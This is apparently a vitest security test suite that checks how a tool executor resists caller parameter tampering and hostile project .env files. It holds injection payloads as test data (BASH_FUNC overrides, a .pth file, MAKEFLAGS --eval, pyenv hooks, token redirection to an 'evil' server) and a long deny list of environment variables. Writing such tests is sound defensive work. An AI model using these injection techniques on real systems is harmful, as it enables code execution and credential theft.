/**
 * Attacks 6 and 7 of the integrity review: callers steering signed items, and a project's `.env`
 * reaching where it must not (DECISIONS 30). Caller values fill only placeholders the item
 * declares; `${VAR}` in user and system items never comes from the project's files; `.env` takes
 * only plain names that do not change how an interpreter starts.
 */
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { dotenvKeyProblem } from '@ryeos/lillux';
import { afterEach, describe, expect, it } from 'vitest';
import { toolEnv, useWorkspaces } from './helpers.js';

const servers: Server[] = [];
afterEach(() => {
  for (const server of servers.splice(0)) server.close();
});
const workspace = useWorkspaces();

/** An HTTP server on 127.0.0.1 that records what reaches it. */
async function recorder(): Promise<{ url: string; seen: { path?: string; auth?: string }[] }> {
  const seen: { path?: string; auth?: string }[] = [];
  const server = createServer((req, res) => {
    seen.push({ path: req.url, auth: req.headers.authorization });
    req.resume();
    req.on('end', () => res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}'));
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

const env = toolEnv;

describe('callers supply data only (attack 6)', () => {
  it('a parameter named like a config key does not swap the script a signed tool runs', async () => {
    const ws = await workspace();
    const marker = join(ws.root, 'marker');
    await ws.write(
      'project',
      'tools/victim/runner.yaml',
      [
        'version: "1.0.0"',
        'executor_id: rye/core/primitives/subprocess',
        'category: victim',
        'config:',
        '  command: "${RYE_KERNEL_NODE}"',
        '  args: ["-e", "{script}"]',
        `  script: "console.log(JSON.stringify({ who: 'signed' }))"`,
        '',
      ].join('\n'),
    );
    const executor = await ws.executor(env());
    const result = await executor.executeTool('victim/runner', {
      script: `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'pwned')`,
    });
    expect(result).toMatchObject({ status: 'success', data: { who: 'signed' } });
    expect(existsSync(marker)).toBe(false);
  });

  it("a parameter named like a config key does not send an HTTP tool's bearer token to another host", async () => {
    const good = await recorder();
    const evil = await recorder();
    const ws = await workspace();
    await ws.write(
      'project',
      'tools/victim/api.yaml',
      [
        'version: "1.0.0"',
        'executor_id: rye/core/runtimes/http/http',
        'category: victim',
        'parameters: [{ name: item, type: string }]',
        'config:',
        `  base: "${good.url}"`,
        '  url: "{base}/v1/{item}"',
        '  method: GET',
        '  auth: { type: bearer, token: "${API_TOKEN}" }',
        '',
      ].join('\n'),
    );
    const executor = await ws.executor(env({ API_TOKEN: 'tok-123' }));
    const result = await executor.executeTool('victim/api', { base: evil.url, item: 'x', method: 'DELETE' });
    expect(result).toMatchObject({ status: 'success' });
    expect(evil.seen).toEqual([]);
    expect(good.seen).toEqual([{ path: '/v1/x', auth: 'Bearer tok-123' }]);
  });

  it('a declared parameter fills its placeholder; an undeclared one is named in the error', async () => {
    const good = await recorder();
    const ws = await workspace();
    const tool = (declared: string) =>
      `version: "1.0.0"\nexecutor_id: rye/core/runtimes/http/http\ncategory: victim\nparameters: [${declared}]\nconfig:\n  url: "${good.url}/items/{id}"\n  method: GET\n`;
    await ws.write('project', 'tools/victim/declared.yaml', tool('{ name: id, type: string }'));
    await ws.write('project', 'tools/victim/undeclared.yaml', tool(''));
    const executor = await ws.executor(env());
    expect(await executor.executeTool('victim/declared', { id: '7' })).toMatchObject({ status: 'success' });
    expect(good.seen).toEqual([{ path: '/items/7' }]);
    const refused = await executor.executeTool('victim/undeclared', { id: '7' });
    expect(refused).toMatchObject({ status: 'error', error_type: 'validation' });
    expect(String(refused.hint)).toMatch(/does not declare it/);
  });

  it('a caller may shorten a timeout, not lengthen one the tool does not declare', async () => {
    const ws = await workspace();
    await ws.write(
      'project',
      'tools/victim/slow.yaml',
      'version: "1.0.0"\nexecutor_id: rye/core/primitives/subprocess\ncategory: victim\nconfig:\n  command: "${RYE_KERNEL_NODE}"\n  args: ["-e", "setTimeout(() => {}, 60000)"]\n  timeout: 1\n',
    );
    const executor = await ws.executor(env());
    // The tool would end by itself, successfully, after 60 s: a timeout means the tool's 1 s held
    // (no wall-clock bound, which load can push past any margin).
    expect(await executor.executeTool('victim/slow', { timeout: 600 })).toMatchObject({
      status: 'error',
      error_type: 'timeout',
    });
  });

  it('a caller cwd cannot leave the project through a symlink inside it', async () => {
    const ws = await workspace();
    await symlink(ws.root, join(ws.project, 'up'));
    await ws.write(
      'project',
      'tools/victim/where.yaml',
      'version: "1.0.0"\nexecutor_id: rye/core/primitives/subprocess\ncategory: victim\nconfig:\n  command: "${RYE_KERNEL_NODE}"\n  args: ["-e", "console.log(JSON.stringify({ cwd: process.cwd() }))"]\n',
    );
    const executor = await ws.executor(env());
    const result = await executor.executeTool('victim/where', { cwd: 'up' });
    expect(result).toMatchObject({ status: 'error', error_type: 'validation' });
    expect(String(result.error)).toMatch(/outside the project/);
  });

  it("a project's .env never feeds ${VAR} in a signed user runtime's config", async () => {
    const good = await recorder();
    const evil = await recorder();
    const ws = await workspace();
    await ws.write(
      'user',
      'tools/acme/api-runtime.yaml',
      [
        'version: "1.0.0"',
        'tool_type: runtime',
        'executor_id: rye/core/primitives/http_client',
        'category: acme',
        'config:',
        '  url: "${API_BASE}/v1"',
        '  method: GET',
        '  auth: { type: bearer, token: "${API_TOKEN}" }',
        '',
      ].join('\n'),
    );
    await ws.write(
      'project',
      'tools/victim/uses.yaml',
      'version: "1.0.0"\nexecutor_id: acme/api-runtime\ncategory: victim\n',
    );
    await writeFile(join(ws.project, '.env'), `API_BASE=${evil.url}\nAPI_TOKEN=attacker-chosen\n`);
    const executor = await ws.executor(env({ API_BASE: good.url, API_TOKEN: 'tok-123' }));
    expect(await executor.executeTool('victim/uses')).toMatchObject({ status: 'success' });
    expect(evil.seen).toEqual([]);
    expect(good.seen).toEqual([{ path: '/v1', auth: 'Bearer tok-123' }]);
  });
});

describe("a project's .env and where a host credential goes", () => {
  it('does not choose where a subprocess tool sends a host variable its config names', async () => {
    const ws = await workspace();
    // Prints the argument it got: where `curl` would send the token.
    const tool = (arg: string) =>
      [
        'version: "1.0.0"',
        'executor_id: rye/core/primitives/subprocess',
        'category: victim',
        'config:',
        '  command: bash',
        `  args: ["-c", "printf '{\\"success\\": true, \\"to\\": \\"%s\\"}' \\"$0\\"", "${arg}"]`,
        '',
      ].join('\n');
    await ws.write('project', 'tools/victim/curl.yaml', tool('${ACME_BASE:-http://good}/api#${ACME_TOKEN}'));
    // No host value in it: the project's .env may still fill the project's own config.
    await ws.write('project', 'tools/victim/own.yaml', tool('${ACME_BASE:-http://good}/api'));
    await writeFile(join(ws.project, '.env'), 'ACME_BASE=http://evil\n');
    const executor = await ws.executor(env({ ACME_TOKEN: 'host-token' }));
    expect(await executor.executeTool('victim/curl')).toMatchObject({
      status: 'success',
      data: { to: 'http://good/api#host-token' },
    });
    expect(await executor.executeTool('victim/own')).toMatchObject({
      status: 'success',
      data: { to: 'http://evil/api' },
    });
  });

  it("does not choose a variable of a tool's env_config that sends a host variable beside it", async () => {
    const ws = await workspace();
    await ws.write(
      'project',
      'tools/victim/envy.sh',
      [
        '# __version__ = "1.0.0"',
        '# __executor_id__ = "rye/core/runtimes/bash/bash"',
        '# __category__ = "victim"',
        '# ENV_CONFIG = {"env": {"TOKEN": "${ACME_TOKEN}", "BASE": "${ACME_BASE:-http://good}"}}',
        'echo "{\\"success\\": true, \\"to\\": \\"$BASE\\", \\"token\\": \\"$TOKEN\\", \\"greeting\\": \\"$GREETING\\"}"',
      ].join('\n') + '\n',
    );
    await writeFile(join(ws.project, '.env'), 'ACME_BASE=http://evil\nGREETING=hi\n');
    const executor = await ws.executor(env({ ACME_TOKEN: 'host-token' }));
    // The project's other .env values still reach the tool's environment.
    expect(await executor.executeTool('victim/envy')).toMatchObject({
      status: 'success',
      data: { to: 'http://good', token: 'host-token', greeting: 'hi' },
    });
  });
});

describe("a project's .env (attack 7)", () => {
  it('BASH_FUNC_x%% cannot override a function or builtin in a bash tool', async () => {
    const ws = await workspace();
    const marker = join(ws.root, 'marker');
    await writeFile(
      join(ws.project, '.env'),
      `BASH_FUNC_echo%%=() { touch ${marker}; builtin echo "$@"; }\nGREETING=hi\n`,
    );
    await ws.write(
      'project',
      'tools/victim/hello.sh',
      '# __version__ = "1.0.0"\n# __executor_id__ = "rye/core/runtimes/bash/bash"\n# __category__ = "victim"\necho "{\\"success\\": true, \\"greeting\\": \\"$GREETING\\"}"\n',
    );
    const executor = await ws.executor(env());
    const result = await executor.executeTool('victim/hello');
    expect(result).toMatchObject({ status: 'success', data: { greeting: 'hi' } });
    expect(existsSync(marker)).toBe(false);
    expect(JSON.stringify(result.warnings)).toMatch(/BASH_FUNC_echo%%.*not a plain variable name/);
  });

  it("HOME cannot point Python's user site-packages (and its .pth files) into the project", async () => {
    const ws = await workspace();
    const marker = join(ws.root, 'marker');
    const site = execFileSync(
      'python3',
      ['-c', 'import site, sys; print(site.USER_SITE.replace(site.getuserbase(), "", 1))'],
      { encoding: 'utf8', env: { ...process.env, HOME: ws.project } },
    ).trim();
    const userSite = join(ws.project, '.local', site);
    await mkdir(userSite, { recursive: true });
    await writeFile(
      join(userSite, 'evil.pth'),
      `import os; open(${JSON.stringify(marker)}, "w").write("pwned")\n`,
    );
    await writeFile(join(ws.project, '.env'), `HOME=${ws.project}\n`);
    await ws.write(
      'project',
      'tools/victim/home.py',
      '__version__ = "1.0.0"\n__executor_id__ = "rye/core/runtimes/python/script"\n__category__ = "victim"\nimport json, os\nprint(json.dumps({"success": True, "home": os.environ.get("HOME")}))\n',
    );
    const executor = await ws.executor(env({ HOME: ws.root }));
    const result = await executor.executeTool('victim/home');
    expect(result).toMatchObject({ status: 'success', data: { home: ws.root } });
    expect(existsSync(marker)).toBe(false);
  });

  it('MAKEFILES, MAKEFLAGS and the other new families do not reach a project tool that runs make', async () => {
    const ws = await workspace();
    const marker = join(ws.root, 'marker');
    await writeFile(join(ws.project, 'evil.mk'), `$(shell touch ${marker})\n`);
    const refused = {
      MAKEFILES: join(ws.project, 'evil.mk'),
      MAKEFLAGS: `--eval=$(shell touch ${marker})`,
      GNUMAKEFLAGS: `--eval=$(shell touch ${marker})`,
      TMPDIR: ws.project,
      KUBECONFIG: join(ws.project, 'kubeconfig'),
      AWS_CONFIG_FILE: join(ws.project, 'aws'),
      GOFLAGS: `-toolexec=${join(ws.project, 'evil')}`,
      RUSTC_WRAPPER: join(ws.project, 'evil'),
      CURL_HOME: ws.project,
      SSH_ASKPASS: join(ws.project, 'evil'),
      DOCKER_CONFIG: ws.project,
    };
    await writeFile(
      join(ws.project, '.env'),
      `${Object.entries(refused)
        .map(([key, value]) => `${key}=${value}`)
        .join('\n')}\nGREETING=hi\n`,
    );
    await writeFile(join(ws.project, 'Makefile'), 'all:\n\t@echo built\n');
    await ws.write(
      'project',
      'tools/victim/build.sh',
      [
        '# __version__ = "1.0.0"',
        '# __executor_id__ = "rye/core/runtimes/bash/bash"',
        '# __category__ = "victim"',
        'cd "$1" || exit 1',
        'out=$(make -s 2>&1)',
        `leaked=$(env | grep -cE '^(${Object.keys(refused).join('|')})=')`,
        'echo "{\\"success\\": true, \\"out\\": \\"$out\\", \\"leaked\\": $leaked, \\"greeting\\": \\"$GREETING\\"}"',
      ].join('\n') + '\n',
    );
    const result = await (await ws.executor(env())).executeTool('victim/build');
    expect(existsSync(marker)).toBe(false);
    expect(result).toMatchObject({ status: 'success', data: { out: 'built', leaked: 0, greeting: 'hi' } });
    const warnings = JSON.stringify(result.warnings);
    for (const key of Object.keys(refused)) expect(warnings, key).toContain(`Ignored \\"${key}\\"`);
    expect(warnings).not.toContain('GREETING');
  });

  it('PYENV_HOOK_PATH and the other version-manager families do not reach a project tool', async () => {
    const ws = await workspace();
    const marker = join(ws.root, 'marker');
    // A shim as pyenv's: it sources every $PYENV_HOOK_PATH/exec/*.bash before the interpreter.
    const bin = join(ws.root, 'bin');
    await mkdir(bin);
    await writeFile(
      join(bin, 'python3'),
      '#!/bin/bash\nIFS=: read -ra dirs <<< "$PYENV_HOOK_PATH"\nfor d in "${dirs[@]}"; do for f in "$d"/exec/*.bash; do [ -f "$f" ] && . "$f"; done; done\necho 42\n',
      { mode: 0o755 },
    );
    await mkdir(join(ws.project, '.hooks', 'exec'), { recursive: true });
    await writeFile(join(ws.project, '.hooks', 'exec', 'pwn.bash'), `touch ${marker}\n`);
    const refused = {
      PYENV_HOOK_PATH: join(ws.project, '.hooks'),
      PYENV_ROOT: ws.project,
      PYENV_VERSION: 'evil',
      RBENV_HOOK_PATH: join(ws.project, '.hooks'),
      NODENV_ROOT: ws.project,
      GOENV_ROOT: ws.project,
      JENV_ROOT: ws.project,
      PLENV_ROOT: ws.project,
      PHPENV_ROOT: ws.project,
      LUAENV_ROOT: ws.project,
      ASDF_DATA_DIR: ws.project,
      MISE_DATA_DIR: ws.project,
      RTX_DATA_DIR: ws.project,
      SDKMAN_DIR: ws.project,
      VOLTA_HOME: ws.project,
      FNM_DIR: ws.project,
      N_PREFIX: ws.project,
      CONDA_EXE: join(ws.project, 'evil'),
      CONDARC: join(ws.project, 'condarc'),
      MAMBA_ROOT_PREFIX: ws.project,
      PIPENV_PYTHON: join(ws.project, 'evil'),
      POETRY_HOME: ws.project,
      UV_PYTHON: join(ws.project, 'evil'),
      PEX_PYTHON: join(ws.project, 'evil'),
      PIXI_HOME: ws.project,
      WORKON_HOME: ws.project,
      NIX_PATH: ws.project,
      DIRENV_CONFIG: ws.project,
      OPAMROOT: ws.project,
      JULIA_DEPOT_PATH: ws.project,
      HOMEBREW_PREFIX: ws.project,
      DEVELOPER_DIR: ws.project,
    };
    await writeFile(
      join(ws.project, '.env'),
      `${Object.entries(refused)
        .map(([key, value]) => `${key}=${value}`)
        .join('\n')}\nGREETING=hi\n`,
    );
    await ws.write(
      'project',
      'tools/victim/py.sh',
      [
        '# __version__ = "1.0.0"',
        '# __executor_id__ = "rye/core/runtimes/bash/bash"',
        '# __category__ = "victim"',
        'out=$(python3)',
        `leaked=$(env | grep -cE '^(${Object.keys(refused).join('|')})=')`,
        'echo "{\\"success\\": true, \\"out\\": \\"$out\\", \\"leaked\\": $leaked, \\"greeting\\": \\"$GREETING\\"}"',
      ].join('\n') + '\n',
    );
    const result = await (await ws.executor(env({ PATH: `${bin}:${process.env.PATH}` }))).executeTool(
      'victim/py',
    );
    expect(existsSync(marker)).toBe(false);
    expect(result).toMatchObject({ status: 'success', data: { out: '42', leaked: 0, greeting: 'hi' } });
    const warnings = JSON.stringify(result.warnings);
    for (const key of Object.keys(refused)) expect(warnings, key).toContain(`Ignored \\"${key}\\"`);
  });

  it('refuses every family that changes how a program starts or whom it trusts, and names plain ones fine', () => {
    const refused = [
      'PATH',
      'SHELL',
      'PAGER',
      'EDITOR',
      'LESSOPEN',
      'BASH_ENV',
      'BASH_FUNC_ls%%',
      'ENV',
      'SHELLOPTS',
      'PS4',
      'PROMPT_COMMAND',
      'IFS',
      'CDPATH',
      'GLOBIGNORE',
      'LD_PRELOAD',
      'GLIBC_TUNABLES',
      'LUA_PATH',
      'LD_LIBRARY_PATH',
      'DYLD_INSERT_LIBRARIES',
      'GCONV_PATH',
      'HOME',
      'XDG_CONFIG_HOME',
      'PYTHONPATH',
      'PYTHONSTARTUP',
      'PYTHONHOME',
      'PYTHONUSERBASE',
      'PYTHONPYCACHEPREFIX',
      'PIP_INDEX_URL',
      'VIRTUAL_ENV',
      'NODE_OPTIONS',
      'NODE_PATH',
      'NODE_EXTRA_CA_CERTS',
      'npm_config_registry',
      'PERL5OPT',
      'PERL5LIB',
      'RUBYOPT',
      'RUBYLIB',
      'JAVA_TOOL_OPTIONS',
      'CLASSPATH',
      'GIT_SSH_COMMAND',
      'GIT_CONFIG_GLOBAL',
      'SSL_CERT_FILE',
      'OPENSSL_CONF',
      'REQUESTS_CA_BUNDLE',
      'HTTPS_PROXY',
      'http_proxy',
      'ALL_PROXY',
      'RYE_DEV_MODE',
      'USER_SPACE',
      // Programs started by name or command line.
      'MANPAGER',
      'AWS_PAGER',
      'VISUAL',
      'SUDO_EDITOR',
      'SSH_ASKPASS',
      'SUDO_ASKPASS',
      'TAR_OPTIONS',
      'RSYNC_RSH',
      'DBUS_SESSION_BUS_ADDRESS',
      'PUPPETEER_EXECUTABLE_PATH',
      // Shells.
      'ZDOTDIR',
      'PS0',
      'FPATH',
      // Native code and the C library's data files.
      'GTK_MODULES',
      'QT_PLUGIN_PATH',
      'VK_LAYER_PATH',
      'SASL_PATH',
      'KRB5_CONFIG',
      'LOCPATH',
      'NLSPATH',
      'TERMINFO',
      'TERMINFO_DIRS',
      'TERMCAP',
      // Where config files are read.
      'XDG_RUNTIME_DIR',
      'XDG_CACHE_HOME',
      'GNUPGHOME',
      'CURL_HOME',
      'WGETRC',
      'NETRC',
      'VIMINIT',
      'EMACSLOADPATH',
      // Temporary files.
      'TMPDIR',
      'TMP',
      'TEMP',
      // Cloud, container and cluster CLIs.
      'AWS_CONFIG_FILE',
      'AWS_SHARED_CREDENTIALS_FILE',
      'KUBECONFIG',
      'DOCKER_CONFIG',
      'DOCKER_HOST',
      'CLOUDSDK_CONFIG',
      'GOOGLE_APPLICATION_CREDENTIALS',
      'HELM_PLUGINS',
      'TF_CLI_CONFIG_FILE',
      // Builds.
      'MAKEFILES',
      'MAKEFLAGS',
      'GNUMAKEFLAGS',
      'CC',
      'CXX',
      'LD',
      'CFLAGS',
      'LDFLAGS',
      'GCC_EXEC_PREFIX',
      'CCACHE_PREFIX',
      'PKG_CONFIG_PATH',
      'CMAKE_TOOLCHAIN_FILE',
      'CONFIG_SITE',
      // Python, Node, Deno, Bun, the JVM, Go, Rust, other interpreters.
      'PIPX_HOME',
      'CONDA_PREFIX',
      'PYTEST_ADDOPTS',
      'PYTEST_PLUGINS',
      'COVERAGE_PROCESS_START',
      'IPYTHONDIR',
      'MPLBACKEND',
      'YARN_YARN_PATH',
      'PNPM_HOME',
      'DENO_DIR',
      'BUN_INSTALL',
      'ELECTRON_RUN_AS_NODE',
      'VOLTA_HOME',
      '_JAVA_OPTIONS',
      'JDK_JAVA_OPTIONS',
      'JAVA_HOME',
      'JAVA_OPTS',
      'MAVEN_OPTS',
      'GRADLE_USER_HOME',
      'GOFLAGS',
      'GOTOOLCHAIN',
      'GOPROXY',
      'GOENV',
      'CGO_CFLAGS',
      'CARGO_HOME',
      'CARGO_BUILD_RUSTC_WRAPPER',
      'RUSTC_WRAPPER',
      'RUSTFLAGS',
      'RUSTUP_TOOLCHAIN',
      'GEM_HOME',
      'BUNDLE_GEMFILE',
      'IRBRC',
      'COMPOSER_HOME',
      'R_ENVIRON_USER',
      'DOTNET_STARTUP_HOOKS',
      'CORECLR_PROFILER_PATH',
      'COMPlus_DbgEnableMiniDump',
      'ERL_AFLAGS',
      'MIX_HOME',
      // Version control.
      'HGRCPATH',
      'CVS_RSH',
      'SVN_SSH',
      // The network.
      'SSH_AUTH_SOCK',
      'SSLKEYLOGFILE',
      'GNUTLS_SYSTEM_PRIORITY_FILE',
      'NODE_EXTRA_CA_CERTS',
      'GRPC_DEFAULT_SSL_ROOTS_FILE_PATH',
      'ftp_proxy',
      'HOSTALIASES',
      'LOCALDOMAIN',
      'RES_OPTIONS',
      'RESOLV_HOST_CONF',
      'LILLUX_DEBUG',
      // The second attack round (issue 9 audit): programs configured into running files.
      'ESBUILD_BINARY_PATH',
      'GCC_COMPARE_DEBUG',
      'DEPENDENCIES_OUTPUT',
      'SUNPRO_DEPENDENCIES',
      'GROFF_BIN_PATH',
      'MANPATH',
      'MANROFFOPT',
      'PSQLRC',
      'PGSERVICEFILE',
      'LIBMYSQL_PLUGINS',
      'MYSQL_HOME',
      'KUBECTL_EXTERNAL_DIFF',
      'ANSIBLE_CONFIG',
      'RAKEOPT',
      'GEMRC',
      'SASS_BINARY_PATH',
      'NAPI_RS_NATIVE_LIBRARY_PATH',
      'PRISMA_QUERY_ENGINE_LIBRARY',
      'TCL_LIBRARY',
      'PLAYWRIGHT_NODEJS_PATH',
      'BOTO_CONFIG',
      'AWS_CONTAINER_CREDENTIALS_FULL_URI',
      'AWS_ENDPOINT_URL',
      'TF_DATA_DIR',
      'TEXTDOMAINDIR',
      'LANG',
      'LC_ALL',
      'A-B',
      '1X',
      'X Y',
      '',
    ];
    for (const key of refused) expect(dotenvKeyProblem(key), key).toBeDefined();
    for (const key of [
      'GREETING',
      'API_TOKEN',
      'DATABASE_URL',
      'MY_HOME_DIR',
      '_PRIVATE',
      'lower_case',
      // Values, not code: names near the families stay allowed.
      'AWS_REGION',
      'AWS_ACCESS_KEY_ID',
      'GOOGLE_API_KEY',
      'RUST_LOG',
      'RUST_BACKTRACE',
      'TF_VAR_region',
      'FEATURE_FLAGS',
      'LOG_LEVEL',
      'DEBUG',
      'TZ',
      'MYSQL_PASSWORD',
      'MANAGER_URL',
      'CACHE_TTL',
      'ENVIRONMENT',
      'GOOD_TOKEN',
      'APP_ENV',
      'PROTOCOL',
      'STACK_NAME',
      'JULIAN_DAY',
    ]) {
      expect(dotenvKeyProblem(key), key).toBeUndefined();
    }
  });
});
